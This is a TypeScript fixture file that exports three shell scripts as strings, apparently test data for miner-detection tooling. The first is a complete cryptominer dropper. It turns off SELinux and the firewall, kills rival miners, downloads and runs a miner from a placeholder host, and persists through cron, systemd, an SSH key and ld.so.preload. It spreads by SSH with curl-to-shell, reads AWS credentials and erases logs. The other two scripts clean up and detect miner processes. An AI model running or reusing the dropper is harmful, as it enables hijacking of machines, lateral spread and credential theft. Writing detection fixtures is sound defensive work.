/** Scripts of ours for the fixtures. They are made to be read, and reach nobody: hosts are names for examples. */

export const wallet: string =
  '888tNkZrPN6JsEgekjMnABU4TBzc2Dt29EPAvkRxbANsAnjyPbb3iQ1YBRk1UXcdRsiKc9dhwMVgN5S9cQUiyoogDavup3H';

/** A dropper that ends its rivals, fetches a miner, makes it stay and goes on. */
export const dropper: string = `#!/bin/bash
export HISTFILE=/dev/null
setenforce 0 2>/dev/null
echo SELINUX=disabled > /etc/selinux/config
ufw disable
/usr/local/qcloud/stargate/admin/uninstall.sh
pkill -f kdevtmpfsi
ps aux | grep -v grep | grep kinsing | awk '{print $2}' | xargs -I % kill -9 %
netstat -anp | grep xmr.nanopool.org:14444 | awk '{print $7}' | xargs kill -9
pkill -f sysguard
rm -rf /tmp/kdevtmpfsi
echo "127.0.0.1 pool.supportxmr.com" >> /etc/hosts
sysctl -w vm.nr_hugepages=1280
mkdir -p /tmp/.cache-x
curl -fsSL http://files.example.com/a -o /tmp/.cache-x/kworkerds
cat > /tmp/.cache-x/config.json <<SETTINGS
{ "pools": [ { "url": "pool.example.net:3333", "user": "${wallet}" } ] }
SETTINGS
chmod +x /tmp/.cache-x/kworkerds
/tmp/.cache-x/kworkerds -o pool.example.net:3333 -u ${wallet} -k
(crontab -l; echo "*/5 * * * * curl -s http://files.example.com/a.sh | sh") | crontab -
cat > /etc/systemd/system/netd.service <<'UNIT'
[Service]
ExecStart=/tmp/.cache-x/kworkerds
[Install]
WantedBy=multi-user.target
UNIT
systemctl enable netd
echo 'ssh-rsa AAAAB3Nza example' >> /root/.ssh/authorized_keys
echo /usr/local/lib/libx.so > /etc/ld.so.preload
chattr +i /etc/ld.so.preload
for h in $(cat /root/.ssh/known_hosts | cut -d' ' -f1); do
  ssh -oBatchMode=yes -oStrictHostKeyChecking=no root@$h 'curl -s http://files.example.com/a.sh | sh'
done
cat /root/.aws/credentials
> /var/log/secure
history -c
rm -- "$0"
`;

/** What a defender runs in order to be rid of miners. */
export const cleaner: string = `#!/bin/sh
# Removes what the incident left behind.
pkill -9 -f xmrig
pkill -9 -f kdevtmpfsi
rm -rf /tmp/kdevtmpfsi /tmp/kinsing
crontab -l | grep -v kinsing | crontab -
systemctl restart cron
`;

/** Looks for miners and tells somebody. */
export const monitor: string = `#!/bin/bash
if ps aux | grep -v grep | grep -E 'xmrig|minerd|kdevtmpfsi' > /dev/null; then
  echo "possible miner on $(hostname)" | mail -s alert root@example.com
fi
netstat -tn | grep -E ':3333|pool.supportxmr.com' && logger "pool traffic"
`;
